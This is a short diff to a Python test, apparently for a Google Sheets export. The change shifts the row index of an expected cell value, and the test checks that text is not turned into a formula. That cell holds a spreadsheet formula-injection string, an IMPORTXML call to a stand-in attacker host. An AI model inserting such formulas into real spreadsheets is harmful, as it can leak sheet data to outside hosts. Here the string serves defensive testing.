@@ -126,7 +126,7 @@ def test_run_now_from_the_google_menu_fills_the_sheet_through_a_real_server(
     j_due = leads["values"][0].index("Due")
     letter = chr(ord("A") + j_due)
     assert any(a.startswith(letter) and "yy" in f for a, f in leads["numberFormats"].items())
-    assert leads["values"][6][2] == '=IMPORTXML("http://evil.example","//a")'
+    assert leads["values"][5][2] == '=IMPORTXML("http://evil.example","//a")'
     assert not any(s.get("formulas") for s in out["sheets"]), "text became a formula"
     fills = {c for c in leads.get("backgrounds", {}).values()}
     assert fills - {"#FFFFFF", "#ffffff"}, "no overdue row coloured"
